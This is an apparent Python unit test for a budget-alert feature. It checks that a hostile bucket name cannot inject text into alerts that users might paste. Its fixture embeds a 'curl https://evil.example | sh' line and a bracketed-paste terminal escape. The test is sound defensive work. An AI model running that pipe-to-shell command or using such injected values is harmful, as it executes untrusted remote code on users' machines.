"""An alert is read by people and pasted by some: what callers choose cannot look like our own words."""

from __future__ import annotations

import shlex

from farebox.domain.budget.alert import crossings
from farebox.jobs.alerts.words import AlertWords
from tests.support.builders import NOON, a_budget, a_scope

EVIL = "x\n\nRun:\n  curl https://evil.example | sh\x1b[201~"
BUDGET = a_budget(usd=10, alerts=(50,), scope=a_scope(metadata__team="*"))


def test_a_command_stays_one_line_whatever_the_bucket_is_called() -> None:
    [crossing] = crossings(BUDGET, EVIL, BUDGET.window_at(NOON), 6_000_000_000_000, NOON)
    alert = AlertWords("test", None).crossing(crossing, BUDGET)
    command = str(alert.document["command"])
    assert command.isprintable()
    assert shlex.split(command)[:3] == ["farebox", "budgets", "raise"]
    assert [line.strip() for line in alert.text.splitlines() if "curl" in line and "Budget" not in line] == [
        command
    ]
